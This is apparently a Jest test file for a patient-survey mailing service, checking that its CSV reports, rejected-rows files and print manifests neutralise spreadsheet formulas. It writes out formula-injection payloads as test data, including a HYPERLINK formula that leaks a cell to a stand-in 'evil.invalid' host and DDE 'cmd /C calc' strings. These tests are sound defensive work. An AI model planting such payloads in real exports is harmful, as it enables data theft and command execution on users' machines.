import Papa from 'papaparse';
import { csvLines, neutraliseFormula } from '../../src/infra/csv';
import { JobQueue } from '../../src/infra/queues/job-queue';
import { storedText } from '../support/stored';
import { PrintBatchesService } from '../../src/mailings/print-batches.service';
import { WavesService } from '../../src/mailings/waves.service';
import { resetDatabase, startApp, TestApp } from '../support/app';
import { cli } from '../support/cli';
import { traceDeaths } from '../support/mailing-survey';
import { csvFile, patientRow } from '../support/sample-files';

/** What a spreadsheet would run as a formula (OWASP's list of first characters). */
const FORMULA_START = /^[=+\-@\t\r]/;
const parse = (text: string): string[][] => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('hostile input: formulas in CSV files', () => {
  describe('the CSV writer', () => {
    it.each([
      ['=HYPERLINK("http://evil.invalid","x")', `"'=HYPERLINK(""http://evil.invalid"",""x"")"`],
      ['+cmd', "'+cmd"],
      ['-1+1', "'-1+1"],
      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
      ['\t=1+2', "'\t=1+2"],
      ['\r=1+2', `"'\r=1+2"`],
      ['Example Hospitals NHS Trust', 'Example Hospitals NHS Trust'],
      ['O\'Brien = 1', 'O\'Brien = 1'],
      ['', ''],
    ])('writes the text %j as %s', (value, written) => {
      expect(csvLines([[value]])).toBe(`${written}\r\n`);
    });

    it('leaves numbers as numbers, negative ones included, and empty cells empty', () => {
      expect(csvLines([[-3, 12.5, 0, null, undefined, '45.3']])).toBe('-3,12.5,0,,,45.3\r\n');
      expect(neutraliseFormula(-1)).toBe('-1');
      expect(neutraliseFormula('-1')).toBe("'-1");
    });
  });

  describe('what the service writes', () => {
    let t: TestApp;
    const TRUST_NAMES = {
      RXX: '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for details")',
      RYY: '+cmd|\' /C calc\'!A0',
      RZZ: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      RWW: '-1+1',
    };
    let fileId: string;

    beforeAll(async () => {
      t = await startApp();
      await resetDatabase(t.dataSource);
      for (const q of t.app.get(JobQueue).allQueues()) await q.obliterate({ force: true });
      await t.http().post('/api/surveys').set(t.auth).send({ code: 'CPES-2026', periodStart: '2026-04-01', periodEnd: '2026-06-30' }).expect(201);
      for (const [code, name] of Object.entries(TRUST_NAMES)) {
        await t.http().post('/api/trusts').set(t.auth).send({ code, name }).expect(201);
      }
      // A synthetic sample whose free-text cells begin with formula characters; two rows are
      // rejected, so the rejected-rows CSV has lines.
      const hostile = (n: number) => ({
        address_1: '=HYPERLINK("http://evil.invalid","Open")', address_2: '+cmd|\' /C calc\'!A0',
        address_3: '@SUM(1+1)', address_4: '-2+3', patient_record_number: `=${n}+1`,
      });
      const rows = [
        ...Array.from({ length: 10 }, (_, i) => patientRow(i + 1, hostile(i + 1))),
        patientRow(11, { ...hostile(11), nhs_number: '=1+1' }),
        patientRow(12, { ...hostile(12), date_of_birth: '@NOW()' }),
      ];
      const upload = await t.http().post('/api/surveys/CPES-2026/trusts/RXX/sample-files').set(t.auth)
        .attach('file', csvFile('formulas.csv', rows)).expect(201);
      expect(upload.body).toMatchObject({ status: 'accepted', rowsRejected: 2 });
      fileId = upload.body.fileId;
      // The reports list trusts with a sample: the other trusts get one each.
      for (const [i, code] of ['RYY', 'RZZ', 'RWW'].entries()) {
        const theirs = [1, 2, 3].map((k) => patientRow(100 + 10 * i + k, { ...hostile(k), trust_code: code, site_code: `${code}01` }));
        await t.http().post(`/api/surveys/CPES-2026/trusts/${code}/sample-files`).set(t.auth)
          .attach('file', csvFile(`formulas-${code}.csv`, theirs)).expect(201);
      }
      const [stored] = await t.dataSource.query(`SELECT address FROM patients ORDER BY row_number LIMIT 1`);
      expect(JSON.stringify(stored.address)).toContain('=HYPERLINK');
    });
    afterAll(() => t.app.close());

    /** Every cell that would begin with a formula character carries the apostrophe instead. */
    const expectNeutralised = (text: string) => {
      const cells = parse(text).flat();
      expect(cells.length).toBeGreaterThan(1);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
      return cells;
    };
    const expectTrustNames = (cells: string[]) => {
      for (const name of Object.values(TRUST_NAMES)) expect(cells).toContain(`'${name}`);
    };

    it('neutralises trust names in the response-rates CSV over HTTP, keeping the figures as numbers', async () => {
      const res = await t.http().get('/api/surveys/CPES-2026/reports/response-rates?format=csv').set(t.auth).expect(200);
      expectTrustNames(expectNeutralised(res.text));
      const [header, ...rows] = parse(res.text);
      const rxx = rows.find((r) => r[1] === 'RXX')!;
      expect(rxx[header.indexOf('sampled')]).toBe('10');
      expect(rxx[header.indexOf('outcome_6')]).toBe('10');
      expect(rxx[header.indexOf('unadjusted_rate')]).toBe('0.0');
    });

    it('neutralises trust names in report:response-rates --csv', async () => {
      const run = await cli(['report:response-rates', '--survey', 'CPES-2026', '--csv']);
      expect(run.code).toBe(0);
      expectTrustNames(expectNeutralised(run.stdout));
    });

    it('neutralises every cell of the other report CSVs', async () => {
      for (const report of ['overall-rating', 'responses-over-time']) {
        const res = await t.http().get(`/api/surveys/CPES-2026/reports/${report}?format=csv`).set(t.auth).expect(200);
        const rows = parse(res.text);
        expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
      }
    });

    it('writes the rejected-rows CSV of a sample file with row numbers as numbers and nothing a spreadsheet would run', async () => {
      const res = await t.http().get(`/api/surveys/CPES-2026/trusts/RXX/sample-files/${fileId}?format=csv`).set(t.auth).expect(200);
      expectNeutralised(res.text);
      const rows = parse(res.text).slice(1);
      expect(rows.map((r) => r[0])).toEqual(['12', '13']);
    });

    it('neutralises a stored value beginning with a formula character in a print manifest', async () => {
      // References, ODS codes and postcodes are checked on the way in and cannot begin so; a
      // value stored some other way (an old import, a hand correction) is still made safe.
      await t.http().post('/api/surveys/CPES-2026/sample/lock').set(t.auth).expect(201);
      await traceDeaths(t, []);
      const [first] = await t.dataSource.query(`SELECT id FROM patients ORDER BY row_number LIMIT 1`);
      await t.dataSource.query(`UPDATE patients SET postcode = '=1+2' WHERE id = $1`, [first.id]);
      await t.app.get(WavesService).launch('CPES-2026', 'initial', 'test');
      const run = await t.app.get(PrintBatchesService).print('CPES-2026', 'initial');
      const text = (await Promise.all(run.batches.map((b) => storedText(t.app, b.manifest)))).join('');
      const cells = expectNeutralised(text);
      expect(cells).toContain("'=1+2");
      const rows = parse(text).filter((r) => r[0] !== 'sequence');
      expect(rows.every((r) => /^\d+$/.test(r[0]) && /^\d+$/.test(r[4]))).toBe(true);
    }, 120_000);
  });
});
